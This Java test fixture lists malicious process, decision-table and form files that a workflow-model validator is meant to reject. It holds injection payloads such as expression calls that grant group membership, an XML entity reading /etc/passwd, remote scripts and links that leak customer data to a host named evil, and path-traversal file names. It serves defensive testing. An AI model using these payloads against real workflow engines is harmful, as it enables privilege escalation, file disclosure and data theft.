package io.orderflow.process.model;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Stream;

/**
 * What somebody may try to deploy, and what the refusal must say.
 *
 * @param what the trick
 * @param file the file that carries it
 * @param place label and id of the element that the refusal names; empty where it names the file
 */
record Evil(String what, ModelFile file, String place) {

    private static final String CALL =
            "${execution.processEngineServices.identityService.createMembership('analyst', " + "'ops')}";
    private static final String TASK = "Charge payment (Task_Charge)";
    private static final String FLOW = "Flow_1";
    private static final String START = "Started (Start_1)";
    private static final String EVENT = "Waited (Event_1)";

    static Stream<Evil> all() {
        return Stream.of(
                        steps(),
                        scripts(),
                        listeners(),
                        texts(),
                        data(),
                        people(),
                        starts(),
                        flows(),
                        calls(),
                        disguises(),
                        tables(),
                        forms(),
                        files())
                .flatMap(List::stream);
    }

    /** Code by the front door. */
    private static List<Evil> steps() {
        return List.of(
                task("makes an analyst a member of ops", "camunda:expression=\"" + CALL + "\""),
                task("class", "camunda:class=\"org.h2.tools.Server\""),
                task(
                        "expression with a call",
                        "camunda:expression=\"${runtimeService.deleteProcessInstance('1', '')}\""),
                task("harmless expression", "camunda:expression=\"${amount}\""),
                task("another bean as a step", "camunda:delegateExpression=\"${dataSource}\""),
                task(
                        "a call that ends in a step",
                        "camunda:delegateExpression=\"${chargePayment.equals(1) ? "
                                + "chargePayment : chargePayment}\""),
                task("a step and more", "camunda:delegateExpression=\"${chargePayment}${x.y()}\""),
                task("a step by another notation", "camunda:delegateExpression=\"#{beans['chargePayment']}\""),
                task("external task", "camunda:type=\"external\" camunda:topic=\"evil\""),
                task("shell", "camunda:type=\"shell\""),
                task(
                        "the engine's former namespace",
                        "xmlns:activiti=\"http://activiti.org/bpmn\" " + "activiti:class=\"evil.Code\""),
                task(
                        "the engine's namespace by another prefix",
                        "xmlns:harmless=\"http://camunda.org/schema/1.0/bpmn\" harmless:class=\"evil.Code\""),
                inTask(
                        "connector",
                        "<camunda:connector><camunda:connectorId>http-connector</camunda:connectorId>"
                                + "</camunda:connector>"),
                inTask("expression in a field", "<camunda:field name=\"topic\" expression=\"" + CALL + "\"/>"),
                inTask(
                        "expression as a field's content",
                        "<camunda:field name=\"topic\"><camunda:expression>" + CALL
                                + "</camunda:expression></camunda:field>"),
                inTask("a field that no step has", "<camunda:field name=\"payments\" stringValue=\"x\"/>"),
                task("variable mapping by a class", "camunda:variableMappingClass=\"evil.Code\""),
                task("job priority by a call", "camunda:jobPriority=\"" + CALL + "\""),
                task(
                        "two jobs of an order at once",
                        "camunda:delegateExpression=\"${chargePayment}\" "
                                + "camunda:asyncBefore=\"true\" camunda:exclusive=\"false\""),
                inTask(
                        "retries by a call",
                        "<camunda:failedJobRetryTimeCycle>" + CALL + "</camunda:failedJobRetryTimeCycle>"));
    }

    private static List<Evil> scripts() {
        return List.of(
                element(
                        "script task",
                        "<scriptTask id=\"Task_Charge\" name=\"Charge payment\" "
                                + "scriptFormat=\"javascript\"><script>1</script></scriptTask>"),
                element(
                        "script from elsewhere",
                        "<scriptTask id=\"Task_Charge\" name=\"Charge payment\" scriptFormat=\"groovy\" "
                                + "camunda:resource=\"http://evil/x.groovy\"/>"),
                inTask(
                        "script as a value",
                        mapping("<camunda:inputParameter name=\"a\"><camunda:script "
                                + "scriptFormat=\"groovy\">1</camunda:script></camunda:inputParameter>")),
                inTask(
                        "script in a list",
                        mapping(
                                "<camunda:inputParameter name=\"a\"><camunda:list><camunda:script "
                                        + "scriptFormat=\"groovy\">1</camunda:script></camunda:list></camunda:inputParameter>")));
    }

    private static List<Evil> listeners() {
        return List.of(
                inTask("execution listener", "<camunda:executionListener event=\"start\" class=\"evil.Code\"/>"),
                inTask(
                        "execution listener with one of our steps",
                        "<camunda:executionListener event=\"end\" delegateExpression=\"${chargePayment}\"/>"),
                inProcess(
                        "execution listener of the process",
                        "<extensionElements><camunda:executionListener event=\"start\" expression=\"" + CALL
                                + "\"/></extensionElements>",
                        "Order (Order)"),
                person(
                        "task listener",
                        "",
                        "<extensionElements><camunda:taskListener event=\"create\" "
                                + "class=\"evil.Code\"/></extensionElements>"),
                person(
                        "task listener at a time",
                        "",
                        "<extensionElements><camunda:taskListener event=\"timeout\" "
                                + "id=\"t\" expression=\"" + CALL
                                + "\"><timerEventDefinition><timeDuration>PT1S</timeDuration></timerEventDefinition>"
                                + "</camunda:taskListener></extensionElements>"),
                flow(
                        "listener of a flow",
                        "",
                        "<extensionElements><camunda:executionListener event=\"take\" "
                                + "class=\"evil.Code\"/></extensionElements>"));
    }

    /** Texts that the engine evaluates. */
    private static List<Evil> texts() {
        return List.of(
                new Evil("name", diagram("<userTask id=\"Task_Charge\" name=\"" + CALL + "\"/>"), "(Task_Charge)"),
                person("documentation", "", "<documentation>" + CALL + "</documentation>"),
                new Evil("name of a message", model("<message id=\"M\" name=\"" + CALL + "\"/>", ""), "(M)"),
                new Evil(
                        "message of an error",
                        model(
                                "<error id=\"E\" name=\"Failed\" errorCode=\"1\" " + "camunda:errorMessage=\"" + CALL
                                        + "\"/>",
                                ""),
                        "Failed (E)"),
                new Evil("signal", model("<signal id=\"S\" name=\"Everybody\"/>", ""), "Everybody (S)"),
                event(
                        "date of a timer",
                        "<timerEventDefinition><timeDate>" + CALL + "</timeDate></timerEventDefinition>"),
                event(
                        "cycle of a timer",
                        "<timerEventDefinition><timeCycle>${x.y()}</timeCycle></timerEventDefinition>"),
                event(
                        "condition that is waited for",
                        "<conditionalEventDefinition><condition>" + CALL
                                + "</condition></conditionalEventDefinition>"));
    }

    private static List<Evil> data() {
        return List.of(
                inTask(
                        "input by a call",
                        mapping("<camunda:inputParameter name=\"a\">" + CALL + "</camunda:inputParameter>")),
                inTask(
                        "input in a comment's shadow",
                        mapping("<camunda:inputParameter name=\"a\">$<!-- -->{x.y()}" + "</camunda:inputParameter>")),
                inTask(
                        "input as character data",
                        mapping("<camunda:inputParameter name=\"a\"><![CDATA[${x.y()}]]>"
                                + "</camunda:inputParameter>")),
                inTask(
                        "input by character references",
                        mapping("<camunda:inputParameter name=\"a\">&#36;&#123;x.y()}" + "</camunda:inputParameter>")),
                inTask(
                        "a step as a value",
                        mapping("<camunda:inputParameter name=\"a\">${chargePayment}" + "</camunda:inputParameter>")),
                inTask(
                        "a secret of another part of the application",
                        mapping(
                                "<camunda:outputParameter name=\"a\">${dataSource.password}</camunda:outputParameter>")),
                inTask(
                        "the execution",
                        mapping("<camunda:outputParameter name=\"a\">${execution.id}" + "</camunda:outputParameter>")),
                inTask(
                        "the class of a value",
                        mapping("<camunda:outputParameter name=\"a\">${orderNumber.class}"
                                + "</camunda:outputParameter>")),
                inTask(
                        "key of a map",
                        mapping("<camunda:inputParameter name=\"a\"><camunda:map><camunda:entry key=\"" + CALL
                                + "\">1</camunda:entry></camunda:map></camunda:inputParameter>")),
                inTask(
                        "value of a list",
                        mapping("<camunda:inputParameter name=\"a\"><camunda:list><camunda:value>" + CALL
                                + "</camunda:value></camunda:list></camunda:inputParameter>")),
                inTask(
                        "variable in the place of a step",
                        mapping("<camunda:inputParameter name=\"chargePayment\">1</camunda:inputParameter>")),
                task(
                        "result in the place of the engine's",
                        "camunda:decisionRef=\"x\" camunda:resultVariable=\"execution\""));
    }

    private static List<Evil> people() {
        return List.of(
                person("assignee by a call", "camunda:assignee=\"" + CALL + "\"", ""),
                person("candidates by a call", "camunda:candidateUsers=\"a,${x.y()}\"", ""),
                person("groups by an expression", "camunda:candidateGroups=\"${anyGroup}\"", ""),
                person("due date by a call", "camunda:dueDate=\"${now()}\"", ""),
                person("follow-up date by a call", "camunda:followUpDate=\"${dateTime().plusDays(1)}\"", ""),
                person("priority by a call", "camunda:priority=\"" + CALL + "\"", ""),
                person("page with scripts", "camunda:formKey=\"embedded:deployment:evil.html\"", ""),
                person("form by a call", "camunda:formRef=\"" + CALL + "\"", ""),
                person(
                        "version of a form from before",
                        "camunda:formRef=\"x\" camunda:formRefBinding=\"version\" " + "camunda:formRefVersion=\"1\"",
                        ""),
                person(
                        "form fields",
                        "",
                        "<extensionElements><camunda:formData><camunda:formField id=\"a\" "
                                + "type=\"string\" defaultValue=\""
                                + CALL + "\"/></camunda:formData></extensionElements>"),
                person("form handler", "camunda:formHandlerClass=\"evil.Code\"", ""),
                person(
                        "owner by a call",
                        "",
                        "<potentialOwner><resourceAssignmentExpression><formalExpression>" + CALL
                                + "</formalExpression></resourceAssignmentExpression></potentialOwner>"));
    }

    private static List<Evil> starts() {
        return List.of(
                start("timer", "", "<timerEventDefinition><timeCycle>R/PT1M</timeCycle></timerEventDefinition>"),
                start("message", "", "<messageEventDefinition messageRef=\"Message_1\"/>"),
                begins("a return by any message", "Return", "Come"),
                begins("an order by the message of a return", "Order", "ReturnRequested"),
                start("signal", "", "<signalEventDefinition/>"),
                start(
                        "condition",
                        "",
                        "<conditionalEventDefinition><condition>${a == 1}</condition>"
                                + "</conditionalEventDefinition>"),
                start("later, as nobody", "camunda:asyncBefore=\"true\"", ""),
                start("form at the start", "camunda:formKey=\"embedded:app:evil.html\"", ""),
                start("form handler at the start", "camunda:formHandlerClass=\"evil.Code\"", ""),
                element(
                        "message that makes an instance",
                        "<receiveTask id=\"Task_Charge\" name=\"Charge payment\" messageRef=\"Message_1\" "
                                + "instantiate=\"true\"/>"),
                element(
                        "gateway that makes an instance",
                        "<eventBasedGateway id=\"Task_Charge\" name=\"Charge payment\" instantiate=\"true\"/>"),
                new Evil("starters", process("camunda:candidateStarterGroups=\"customer\"", ""), "Order (Order)"),
                new Evil(
                        "in everybody's list", process("camunda:isStartableInTasklist=\"true\"", ""), "Order (Order)"));
    }

    private static List<Evil> flows() {
        return List.of(
                condition("call in a condition", "${execution.setVariable('a', 1) == null}"),
                condition("function in a condition", "${now() == 1}"),
                condition("step in a condition", "${chargePayment == 1}"),
                condition("two expressions", "${a == 1}${x.y()}"),
                condition("call behind a comparison", "${a == 1 && x.y()}"),
                condition("choice", "${a == 1 ? b : c}"),
                condition("value with a way out", "${a == 'b'.concat(x.y())}"),
                condition("assignment", "${a = 1}"),
                condition("no expression", "a == 1"),
                flow(
                        "script as a condition",
                        "",
                        "<conditionExpression xsi:type=\"tFormalExpression\" "
                                + "language=\"javascript\">1 == 1</conditionExpression>"),
                flow(
                        "script from elsewhere as a condition",
                        "",
                        "<conditionExpression xsi:type=\"tFormalExpression\" language=\"groovy\" "
                                + "camunda:resource=\"http://evil/x\"/>"),
                inActivity(
                        "times by a call",
                        "<multiInstanceLoopCharacteristics><loopCardinality>" + CALL
                                + "</loopCardinality></multiInstanceLoopCharacteristics>"),
                inActivity(
                        "collection by a call",
                        "<multiInstanceLoopCharacteristics camunda:collection=\"" + CALL + "\"/>"),
                inActivity(
                        "collection by reference",
                        "<multiInstanceLoopCharacteristics><loopDataInputRef>" + CALL
                                + "</loopDataInputRef></multiInstanceLoopCharacteristics>"),
                inActivity(
                        "end of a loop by a call",
                        "<multiInstanceLoopCharacteristics><loopCardinality>2"
                                + "</loopCardinality><completionCondition>"
                                + CALL + "</completionCondition></multiInstanceLoopCharacteristics>"));
    }

    private static List<Evil> calls() {
        return List.of(
                call("process by an expression", "calledElement=\"${x.y()}\"", ""),
                call(
                        "version from before",
                        "calledElement=\"Old\" camunda:calledElementBinding=\"version\" "
                                + "camunda:calledElementVersion=\"1\"",
                        ""),
                call("case", "camunda:caseRef=\"x\"", ""),
                call("another order", "calledElement=\"SettleRefund\"", "<camunda:in businessKey=\"${otherOrder}\"/>"),
                call(
                        "value by a call",
                        "calledElement=\"SettleRefund\"",
                        "<camunda:in sourceExpression=\"" + CALL + "\" target=\"refundId\"/>"),
                call(
                        "result by a call",
                        "calledElement=\"SettleRefund\"",
                        "<camunda:out sourceExpression=\"" + CALL + "\" target=\"refundId\"/>"),
                call(
                        "mapping by a delegate",
                        "calledElement=\"SettleRefund\" " + "camunda:variableMappingDelegateExpression=\"${x}\"",
                        ""),
                task("table by an expression", "camunda:decisionRef=\"${x.y()}\""),
                task(
                        "version of a table from before",
                        "camunda:decisionRef=\"x\" "
                                + "camunda:decisionRefBinding=\"version\" camunda:decisionRefVersion=\"1\""));
    }

    /** The same under cover. */
    private static List<Evil> disguises() {
        ModelFile plain = diagram("<scriptTask id=\"Task_Charge\" name=\"Charge payment\"/>");
        String text = text(plain);
        return List.of(
                new Evil(
                        "another encoding",
                        new ModelFile(
                                "Evil.bpmn", text.replace("UTF-8", "UTF-16").getBytes(StandardCharsets.UTF_16)),
                        TASK),
                new Evil(
                        "document type",
                        named(text.replace("<definitions", "<!DOCTYPE d [<!ENTITY e \"evil\">]><definitions")),
                        ""),
                new Evil(
                        "a file of the server",
                        named(text.replace(
                                "<definitions",
                                "<!DOCTYPE d [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><definitions")),
                        ""),
                new Evil(
                        "schema from elsewhere",
                        named(text.replace(
                                "<definitions", "<definitions xsi:schemaLocation=\"http://evil http://evil/x.xsd\"")),
                        "Definitions_1"),
                new Evil(
                        "a step in the drawing",
                        model("", "</process><bpmndi:process id=\"P\" isExecutable=\"true\"/><process id=\"Q\">"),
                        "P"),
                element(
                        "a step of no namespace",
                        "<scriptTask xmlns=\"\" id=\"Task_Charge\" name=\"Charge payment\"/>"),
                element(
                        "a step of another namespace",
                        "<x:scriptTask xmlns:x=\"http://evil\" id=\"Task_Charge\" " + "name=\"Charge payment\"/>"),
                new Evil(
                        "code of another file",
                        model("<import namespace=\"x\" location=\"http://evil\" " + "importType=\"x\"/>", ""),
                        ""),
                new Evil(
                        "a web service",
                        model("<interface id=\"I\" name=\"Evil\" implementationRef=\"evil.Code\"/>", ""),
                        "Evil (I)"),
                new Evil(
                        "without end",
                        named(text.replace("<scriptTask", "<subProcess>".repeat(200) + "<scriptTask")),
                        ""),
                new Evil("no XML", named("evil"), ""));
    }

    private static List<Evil> tables() {
        return List.of(
                outcome("call in an outcome", "\"a\".getClass().forName(\"evil\")", ""),
                outcome("expression in an outcome", "${x.y()}", ""),
                outcome("step in an outcome", "chargePayment", ""),
                outcome("script as an outcome", "1", "expressionLanguage=\"javascript\""),
                test("function in a test", "evil(1)", ""),
                test("loop in a test", "some a in [1..999999999] satisfies a > 1", ""),
                test("script in a test", "1", "expressionLanguage=\"groovy\""),
                new Evil("call as input", table("x.y()", "1", "1"), "Kind (Input_1)"),
                new Evil("step as input", table("chargePayment", "1", "1"), "Kind (Input_1)"),
                new Evil(
                        "language of the file",
                        new ModelFile(
                                "Evil.dmn",
                                text(table("a", "1", "1"))
                                        .replace(
                                                "namespace=\"t\"",
                                                "namespace=\"t\" " + "expressionLanguage=\"javascript\"")
                                        .getBytes(StandardCharsets.UTF_8)),
                        "D (D)"),
                new Evil(
                        "function of its own",
                        new ModelFile(
                                "Evil.dmn",
                                text(table("a", "1", "1"))
                                        .replace(
                                                "<decision ",
                                                "<businessKnowledgeModel id=\"B\" name=\"Evil\"/><decision " + "")
                                        .getBytes(StandardCharsets.UTF_8)),
                        "Evil (B)"));
    }

    private static List<Evil> forms() {
        return List.of(
                form(
                        "page of another server",
                        "{\"type\": \"iframe\", \"id\": \"F\", \"label\": \"Facts\", \"url\": " + "\"https://evil\"}"),
                form(
                        "picture that tells what is shown",
                        "{\"type\": \"image\", \"id\": \"F\", \"label\": \"Facts\", "
                                + "\"source\": \"=\\\"https://evil?\\\" + facts.customer\"}"),
                form("HTML", "{\"type\": \"html\", \"id\": \"F\", \"label\": \"Facts\", \"content\": \"<b>\"}"),
                form(
                        "link that takes facts along",
                        "{\"type\": \"text\", \"id\": \"F\", \"label\": \"Facts\", "
                                + "\"text\": \"[Go on](https://evil?{{facts.customer}})\"}"),
                form(
                        "HTML with a hole in it",
                        "{\"type\": \"text\", \"id\": \"F\", \"label\": \"Facts\", \"text\": \""
                                + "<{{none}}img src=x>\"}"),
                form(
                        "text that is put together",
                        "{\"type\": \"text\", \"id\": \"F\", \"label\": \"Facts\", \"text\": "
                                + "\"=\\\"!\\\" + \\\"[\\\"\"}"),
                form(
                        "deep in a group",
                        "{\"type\": \"group\", \"id\": \"G\", \"components\": [{\"type\": \"iframe\", "
                                + "\"id\": \"F\", \"label\": \"Facts\"}]}"),
                new Evil(
                        "said twice",
                        new ModelFile(
                                "Evil.form",
                                "{\"id\": \"a\", \"id\": \"b\", \"components\": []}".getBytes(StandardCharsets.UTF_8)),
                        ""));
    }

    private static List<Evil> files() {
        byte[] diagram = diagram("").content();
        return Stream.of(
                        "evil.html",
                        "evil.js",
                        "evil.groovy",
                        "evil.cmmn",
                        "evil.bpmn20.xml",
                        "Evil.BPMN",
                        "evilbpmn",
                        "evil.dmn11.xml",
                        "evil.svg",
                        "evil",
                        "../evil.bpmn",
                        "a/evil.bpmn",
                        "evil.bpmn\u0000.form")
                .map(name -> new Evil("file " + name, new ModelFile(name, diagram), ""))
                .toList();
    }

    @Override
    public String toString() {
        return what;
    }

    // ---- how a model is written

    private static Evil task(String what, String attributes) {
        String kind = attributes.contains("decisionRef") ? "businessRuleTask" : "serviceTask";
        return element(what, "<" + kind + " id=\"Task_Charge\" name=\"Charge payment\" " + attributes + "/>");
    }

    private static Evil inTask(String what, String extensions) {
        return inActivity(what, "<extensionElements>" + extensions + "</extensionElements>");
    }

    private static Evil inActivity(String what, String content) {
        return element(
                what,
                "<serviceTask id=\"Task_Charge\" name=\"Charge payment\" "
                        + "camunda:delegateExpression=\"${chargePayment}\">"
                        + content + "</serviceTask>");
    }

    private static Evil person(String what, String attributes, String content) {
        return element(
                what,
                "<userTask id=\"Task_Charge\" name=\"Charge payment\" " + attributes + ">" + content + "</userTask>");
    }

    private static Evil call(String what, String attributes, String extensions) {
        return element(
                what,
                "<callActivity id=\"Task_Charge\" name=\"Charge payment\" " + attributes
                        + "><extensionElements>" + extensions
                        + "</extensionElements></callActivity>");
    }

    private static Evil element(String what, String element) {
        return new Evil(what, diagram(element), TASK);
    }

    private static Evil event(String what, String definition) {
        return new Evil(
                what,
                diagram("<intermediateCatchEvent id=\"Event_1\" name=\"Waited\">" + definition
                        + "</intermediateCatchEvent>"),
                EVENT);
    }

    private static Evil start(String what, String attributes, String definition) {
        return new Evil(
                "start: " + what,
                model(
                        "<message id=\"Message_1\" name=\"Come\"/>",
                        "<startEvent id=\"Start_1\" name=\"Started\" " + attributes + ">" + definition
                                + "</startEvent>"),
                START);
    }

    private static Evil begins(String what, String process, String message) {
        String order = text(
                model(
                        "<message id=\"Message_1\" name=\"" + message + "\"/>",
                        "<startEvent id=\"Start_1\" name=\"Started\"><messageEventDefinition messageRef=\"Message_1\"/></startEvent>"));
        return new Evil(
                "start: " + what,
                named(order.replace("process id=\"Order\"", "process id=\"" + process + "\"")),
                START);
    }

    private static Evil condition(String what, String condition) {
        return flow(
                what,
                "",
                "<conditionExpression xsi:type=\"tFormalExpression\">" + condition.replace("&", "&amp;")
                        + "</conditionExpression>");
    }

    private static Evil flow(String what, String attributes, String content) {
        return new Evil(
                what,
                diagram("<sequenceFlow id=\"Flow_1\" sourceRef=\"Start_0\" targetRef=\"End_0\" "
                        + attributes + ">" + content
                        + "</sequenceFlow>"),
                FLOW);
    }

    private static Evil inProcess(String what, String content, String place) {
        return new Evil(what, model("", content), place);
    }

    private static Evil outcome(String what, String text, String attributes) {
        return new Evil(what, table("kind", "1", text, "outputEntry id=\"o\" " + attributes), "Rule_1");
    }

    private static Evil test(String what, String text, String attributes) {
        return new Evil(what, table("kind", text, "1", "inputEntry id=\"i\" " + attributes), "Rule_1");
    }

    private static Evil form(String what, String component) {
        return new Evil(
                "form: " + what,
                new ModelFile(
                        "Evil.form",
                        ("{\"id\": \"Evil\", \"type\": \"default\", \"components\": [" + component + "]}")
                                .getBytes(StandardCharsets.UTF_8)),
                "Facts (F)");
    }

    private static String mapping(String parameter) {
        return "<camunda:inputOutput>" + parameter + "</camunda:inputOutput>";
    }

    private static ModelFile diagram(String elements) {
        return model("", "<startEvent id=\"Start_0\"/><endEvent id=\"End_0\"/>" + elements);
    }

    private static ModelFile process(String attributes, String elements) {
        return named(text(model("", elements)).replace("isExecutable=", attributes + " isExecutable="));
    }

    private static ModelFile model(String definitions, String elements) {
        return named("""
                <?xml version="1.0" encoding="UTF-8"?>
                <definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:camunda="http://camunda.org/schema/1.0/bpmn"
                    xmlns:bpmndi="http://www.omg.org/spec/BPMN/20100524/DI" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
                    id="Definitions_1" targetNamespace="t">
                  %s<process id="Order" name="Order" isExecutable="true" camunda:historyTimeToLive="P1D">%s</process>
                </definitions>""".formatted(definitions, elements));
    }

    private static ModelFile table(String input, String test, String outcome) {
        return table(input, test, outcome, "");
    }

    private static ModelFile table(String input, String test, String outcome, String entry) {
        return new ModelFile("Evil.dmn", """
                <?xml version="1.0" encoding="UTF-8"?>
                <definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" xmlns:camunda="http://camunda.org/schema/1.0/dmn"
                    id="D" name="D" namespace="t">
                  <decision id="Evil" name="Evil" camunda:historyTimeToLive="P1D"><decisionTable id="T">
                    <input id="Input_1" label="Kind"><inputExpression id="e" typeRef="string"><text>%s</text></inputExpression></input>
                    <output id="Output_1" name="result" typeRef="string"/>
                    <rule id="Rule_1"><%s><text>%s</text></inputEntry><%s><text>%s</text></outputEntry></rule>
                  </decisionTable></decision>
                </definitions>""".formatted(
                        input,
                        entry.startsWith("inputEntry") ? entry : "inputEntry id=\"i\"",
                        test,
                        entry.startsWith("outputEntry") ? entry : "outputEntry id=\"o\"",
                        outcome)
                .getBytes(StandardCharsets.UTF_8));
    }

    private static ModelFile named(String text) {
        return new ModelFile("Evil.bpmn", text.getBytes(StandardCharsets.UTF_8));
    }

    private static String text(ModelFile file) {
        return new String(file.content(), StandardCharsets.UTF_8);
    }
}
